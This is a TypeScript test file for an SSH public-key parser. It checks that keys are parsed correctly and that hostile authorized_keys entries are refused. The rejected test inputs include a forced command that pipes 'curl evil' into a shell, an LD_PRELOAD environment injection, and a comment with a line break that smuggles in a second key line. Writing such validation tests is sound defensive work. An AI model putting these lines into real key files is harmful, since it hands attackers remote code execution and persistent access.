import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { authorizedKeys, keyLine, parsePublicKey } from './keys.js';

const dir = mkdtempSync(path.join(os.tmpdir(), 'access-keys-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'me@laptop', '-f', path.join(dir, 'k')]);
const pub = readFileSync(path.join(dir, 'k.pub'), 'utf8');
const [type, blob] = pub.trim().split(' ') as [string, string];

describe('parsePublicKey', () => {
  it('keeps exactly type, key and comment', () => {
    const k = parsePublicKey(pub);
    expect(k).toEqual({ type, key: blob, comment: 'me@laptop' });
    expect(keyLine(k)).toBe(`${type} ${blob} me@laptop`);
    expect(parsePublicKey(`${type} ${blob}`, ' other ').comment).toBe('other');
  });

  it.each([
    [`command="curl evil|sh" ${type} ${blob}`, /options/],
    [`restrict,pty ${type} ${blob}`, /options/],
    [`environment="LD_PRELOAD=/tmp/x.so" ${type} ${blob}`, /options/],
    [`${type} ${blob}\n${type} ${blob}`, /single line/],
    [`${type} ${blob} c\ncommand="x" ${type} ${blob}`, /single line/],
    [`${type} ${blob} a\u0000b`, /control characters/],
    ['ssh-dss AAAAB3NzaC1kc3M=', /DSA/],
    [`ecdsa-sha2-nistp256 ${blob}`, /does not match its type/],
    [`${type} AAAA====`, /base64/],
    ['hello world', /must start with a key type/],
  ])('refuses %j', (line, message) => {
    expect(() => parsePublicKey(line)).toThrow(message);
  });

  it('refuses a comment with a line break given separately', () => {
    expect(() => parsePublicKey(pub, 'ok\nssh-ed25519 AAAA')).toThrow(/comment/);
  });
});

describe('authorizedKeys', () => {
  it('writes one option-free line per key under a header', () => {
    const text = authorizedKeys([parsePublicKey(pub)]);
    expect(text.split('\n').filter((l) => l && !l.startsWith('#'))).toEqual([`${type} ${blob} me@laptop`]);
  });
});
